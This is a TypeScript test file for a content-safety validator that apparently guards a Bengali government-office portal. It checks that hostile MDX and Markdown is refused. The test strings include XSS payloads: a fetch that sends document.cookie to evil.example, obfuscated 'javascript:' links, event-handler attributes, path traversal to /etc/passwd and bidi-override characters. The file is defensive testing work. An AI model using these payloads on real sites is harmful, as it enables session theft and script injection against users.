import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadContentTree } from '../../src/content-model/load.ts';
import { parseSourceFile } from '../../src/content-model/source-file.ts';
import type { ContentFile } from '../../src/content-model/load.ts';
import { checkContentSafety } from '../../src/validation/checks/content-safety.ts';
import { findHiddenCharacters, urlScheme } from '../../src/validation/checks/safety-policy.ts';
import { validateTree } from '../../src/validation/index.ts';
import { repoRoot } from '../support/paths.ts';

const hostileRoot = path.join(repoRoot, 'tests/fixtures/hostile');
const orders = 'tests/fixtures/hostile/offices/hostile-office/orders';

// One row per hostile fixture: the file, the line a maintainer is sent to, and what the message says.
const REFUSED: ReadonlyArray<readonly [string, number, string]> = [
  ['tests/fixtures/hostile/offices/hostile-office/office.yaml', 6, 'website: a "javascript:" address is not allowed'],
  [`${orders}/2024-01-10-import.mdx`, 11, 'import/export is not allowed: content cannot load code or components; remove the line "import Banner'],
  [`${orders}/2024-01-10-export.mdx`, 13, 'import/export is not allowed'],
  [`${orders}/2024-01-10-expression.mdx`, 11, `the JavaScript expression "{fetch('https://evil.example/?c=' + document.cookie)}" is not allowed`],
  [`${orders}/2024-01-10-script.mdx`, 13, '<script> is not allowed: content cannot run code; remove it'],
  [`${orders}/2024-01-10-iframe.mdx`, 13, '<iframe> is not allowed: content cannot embed other pages'],
  [`${orders}/2024-01-10-style.mdx`, 13, '<style> is not allowed: content cannot change the portal\u2019s styles'],
  [`${orders}/2024-01-10-event-handler.mdx`, 13, 'the event handler onMouseOver= on <span> is not allowed: content cannot run code'],
  [`${orders}/2024-01-10-javascript-link.mdx`, 13, 'a link to a "javascript:" address is not allowed ("javascript:alert(1)")'],
  [`${orders}/2024-01-10-data-link.mdx`, 13, 'a link to a "data:" address is not allowed'],
  [`${orders}/2024-01-10-encoded-link.mdx`, 13, 'a link to a "javascript:" address is not allowed ("javascript:alert(1)")'],
  [`${orders}/2024-01-10-component.mdx`, 13, 'the component <Banner> is not allowed: documents use no components'],
  [`${orders}/2024-01-10-spread.mdx`, 13, 'the JavaScript expression "{...props}" in <span> is not allowed'],
  [`${orders}/2024-01-10-raw-html.md`, 13, 'the event handler onerror= on <img> is not allowed'],
  [`${orders}/2024-01-10-raw-html.md`, 13, 'body: <img> is not allowed: images come from the office media folder'],
  [`${orders}/2024-01-10-frontmatter-html.mdx`, 2, 'subject: HTML is not allowed in frontmatter ("<b onclick="alert(1)">"): fields are shown as plain text'],
  [`${orders}/2024-01-10-bidi-name.mdx`, 7, 'signatory.name: contains U+202E RIGHT-TO-LEFT OVERRIDE, U+202C POP DIRECTIONAL FORMATTING: bidi controls'],
  [`${orders}/2024-01-10-invisible-name.mdx`, 7, 'signatory.name: contains invisible U+200B ZERO WIDTH SPACE'],
];

describe('the content safety policy on the hostile fixtures', () => {
  const { diagnostics } = validateTree(loadContentTree(hostileRoot));
  const shown = diagnostics.map((d) => `${d.file}:${d.line}  ${d.severity}  ${d.code}  ${d.field ? `${d.field}: ` : ''}${d.message}`);

  it.each(REFUSED)('refuses %s at line %i, saying what is not allowed', (file, line, message) => {
    const match = shown.filter((s) => s.startsWith(`${file}:${line}  error  unsafe-content  `) && s.includes(message));
    expect(match, `expected "${message}" at ${file}:${line}; got:\n${shown.filter((s) => s.startsWith(file)).join('\n')}`).toHaveLength(1);
  });

  it('refuses every hostile file, and for no other reason than its content', () => {
    const files = new Set(diagnostics.filter((d) => d.code === 'unsafe-content' && d.severity === 'error').map((d) => d.file));
    const tree = loadContentTree(hostileRoot);
    expect([...files].sort()).toEqual(tree.files.map((f) => f.source.displayPath).sort());
    // The office schema refuses a non-web website on its own too (both messages name line 6).
    const schemaWebsite = (d: (typeof diagnostics)[number]) => d.code === 'schema' && d.field === 'website' && d.line === 6;
    expect(diagnostics.filter((d) => d.code !== 'unsafe-content' && !schemaWebsite(d))).toEqual([]);
  });
});

/** A document file from text, as the loader would read it. */
function doc(body: string, frontmatter = 'subject: নমুনা\n', name = 'orders/2024-01-10-x.mdx'): ContentFile {
  const raw = `---\n${frontmatter}---\n${body}`;
  return { kind: 'order', officeId: 'o', id: 'o/x', absolutePath: `/x/${name}`, source: parseSourceFile(name, raw, false) };
}
const messages = (file: ContentFile) => checkContentSafety(file).map((d) => `${d.line} ${d.severity} ${d.message}`);

describe('the content safety policy on ordinary content', () => {
  it.each([
    ['a GFM table', '| ক | খ |\n| --- | --- |\n| ১ | ২ |\n'],
    ['line breaks with a backslash', 'গণপ্রজাতন্ত্রী বাংলাদেশ সরকার\\\nবিভাগীয় কমিশনারের কার্যালয়\n'],
    ['plain formatting HTML with allowed attributes', '<table><tr><td colspan="2">ক</td></tr></table>\n\nলেখা <br /> <sup>১</sup>\n'],
    ['web, mail, phone and site links', '[ওয়েবসাইট](https://lgd.gov.bd) [মেইল](mailto:a@b.gov.bd) [ফোন](tel:+8801711000000) [পাতা](/offices/lgd/)\n'],
    ['an escaped brace and an MDX comment', 'দাম \\{১০০\\} টাকা {/* সম্পাদকের নোট */}\n'],
    ['Bengali with ZWJ (র‍্যাব) and ZWNJ', 'র\u200D্যাব এবং ক্\u200Cষ\n'],
  ])('accepts %s', (_name, body) => {
    expect(messages(doc(body))).toEqual([]);
  });

  it('accepts "Note:" and Bengali text with colons in frontmatter', () => {
    expect(messages(doc('লেখা\n', 'subject: "Note: মূল্য ৫ < ১০ টাকা"\nremarks: "মন্তব্য: ইমেইল <info@lgd.gov.bd>"\n'))).toEqual([]);
  });

  it('names the line of a refused construct inside the body', () => {
    expect(messages(doc('প্রথম লাইন\n\nদ্বিতীয়\n\n<script>x</script>\n'))).toEqual(['8 error <script> is not allowed: content cannot run code; remove it']);
  });

  it('treats raw HTML in .md case-insensitively', () => {
    expect(messages(doc('লেখা\n\n<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>\n', undefined, 'orders/2024-01-10-x.md'))).toEqual([
      '6 error <script> is not allowed: content cannot run code; remove it',
    ]);
  });

  // Raw HTML is read as a browser's tokenizer reads it (src/validation/checks/html-tags.ts): no regular expression to slip past.
  it.each([
    ['a tag a fragment parser would fold away', '<body onload="alert(1)">', ['<body> is not allowed', 'the event handler onload= on <body>']],
    ['a script address written with character references', '<a href="&#x6A;ava&#115;cript&colon;alert(1)">x</a>', ['a link to a "javascript:" address']],
    ['a script address with a named tab inside', '<a href="java&Tab;script:alert(1)">x</a>', ['a link to a "javascript:" address']],
    ['a tag split over lines', '<span\n  title="t"\n  onmouseover="x()">ক</span>', ['the event handler onmouseover= on <span>']],
  ])('refuses raw HTML in .md: %s', (_, html, expected) => {
    const found = messages(doc(`লেখা\n\n${html}\n`, undefined, 'orders/2024-01-10-x.md'));
    expect(found).toHaveLength(expected.length);
    expected.forEach((text, i) => expect(found[i]).toContain(text));
  });

  it.each([
    ['a tag', 'subject: "বিষয় <b>জরুরি</b>"\n', '<b>'],
    ['a lone end tag', 'subject: "বিষয় </script>"\n', '</script>'],
    ['a comment', 'subject: "বিষয় <!-- x -->"\n', '<!-- x -->'],
  ])('refuses HTML in a frontmatter string: %s', (_, frontmatter, quoted) => {
    expect(messages(doc('লেখা\n', frontmatter))).toEqual([expect.stringContaining(`HTML is not allowed in frontmatter ("${quoted}")`)]);
  });

  it('explains a body that does not parse as MDX, naming the forbidden construct on that line', () => {
    expect(messages(doc('লেখা\n\n<img src=x onerror=alert(1)>\n'))).toEqual([
      expect.stringMatching(/^6 error <img> is not allowed: .* \(and the body does not parse as MDX: /),
    ]);
    expect(messages(doc('দাম {১০০ টাকা\n'))).toEqual([
      expect.stringMatching(/^4 error the body does not parse as MDX: .*Text characters "\{", "\}" and "<" must be escaped/),
    ]);
  });

  it.each([
    ['![ছবি](../../other-office/media/x.jpg)', 'an image'],
    ['![ছবি](/etc/passwd)', 'an image'],
    ['![ছবি](%2e%2e/%2e%2e/x.jpg)', 'an image'],
    ['![ছবি](/offices/other/media/x.jpg)', 'an image'],
    ['[স্ক্যান কপি](../../other/media/scan.pdf)', 'a link to a media file'],
    ['[স্ক্যান কপি](/offices/other/media/scan.pdf)', 'a link to a media file'],
    ['[স্ক্যান কপি](media/%2e%2e/%2e%2e/x.pdf)', 'a link to a media file'],
  ])('refuses %s: media paths in a body stay in the office media folder', (body, what) => {
    expect(messages(doc(`${body}\n`))).toEqual([expect.stringMatching(new RegExp(`^4 error ${what} .* is refused because`))]);
  });

  it('accepts images and scanned copies in the office media folder, and links to other pages', () => {
    expect(messages(doc('![ছবি](media/a.jpg) [স্ক্যান](media/scan.pdf) [স্ক্যান](/offices/o/media/scan.pdf) [পাতা](../other/)\n'))).toEqual([]);
  });

  it('accepts an image from the office media folder and refuses one from another site', () => {
    expect(messages(doc('![ছবি](media/focal-point.jpg)\n'))).toEqual([]);
    expect(messages(doc('![ছবি](https://tracker.example/pixel.gif)\n\n![x](//cdn.example/a.png)\n\n![y](data:image/png;base64,AAAA)\n'))).toEqual([
      '4 error an image from another site is not allowed ("https://tracker.example/pixel.gif"): put the image in the office media folder and link it by path, e.g. ![ছবি](media/photo.jpg)',
      expect.stringMatching(/^6 error an image from another site is not allowed \("\/\/cdn\.example\/a\.png"\)/),
      expect.stringMatching(/^8 error an image from another site is not allowed \("data:image\/png/),
    ]);
  });

  it('refuses a link whose scheme is hidden by tabs or upper case', () => {
    expect(messages(doc('[x](<JaVa\tScRiPt:alert(1)>)\n'))).toEqual([expect.stringContaining('a link to a "javascript:" address is not allowed')]);
  });

  it('warns (not errs) about an invisible character in ordinary text, and errs in a name', () => {
    expect(messages(doc('লেখা\u200Bটি\n'))).toEqual(['4 warning contains invisible U+200B ZERO WIDTH SPACE; retype the line without it']);
    expect(messages(doc('লেখা\n', 'subject: "বিষয়\u00AD"\n'))).toEqual([expect.stringMatching(/^2 warning contains invisible U\+00AD SOFT HYPHEN/)]);
  });

  it('refuses bidi controls in the body', () => {
    expect(messages(doc('ফি \u2067১০০\u2069 টাকা\n'))).toEqual([
      expect.stringMatching(/^4 error contains U\+2067 RIGHT-TO-LEFT ISOLATE, U\+2069 POP DIRECTIONAL ISOLATE: bidi controls/),
    ]);
  });
});

describe('hidden characters and URL schemes', () => {
  it.each([
    ['plain Bengali', 'জনাব মোঃ করিম', [], []],
    ['Bengali with ZWJ', 'র\u200D্যাব', [], []],
    ['an override', 'a\u202Eb', ['U+202E RIGHT-TO-LEFT OVERRIDE'], []],
    ['a tag character', 'a\u{E0041}b', [], ['U+E0041 (tag character)']],
    ['a control code', 'a\u0007b', [], ['U+0007 (control character)']],
  ])('finds them in %s', (_name, text, bidi, invisible) => {
    expect(findHiddenCharacters(text)).toEqual({ bidi, invisible });
  });

  it.each([
    ['https://a.gov.bd', 'https'],
    ['/offices/lgd/', undefined],
    ['media/photo.jpg', undefined],
    [' \tjava\nscript:alert(1)', 'javascript'],
    ['DATA:text/html,x', 'data'],
  ])('reads the scheme of %j as %s', (url, scheme) => {
    expect(urlScheme(url)).toBe(scheme);
  });
});
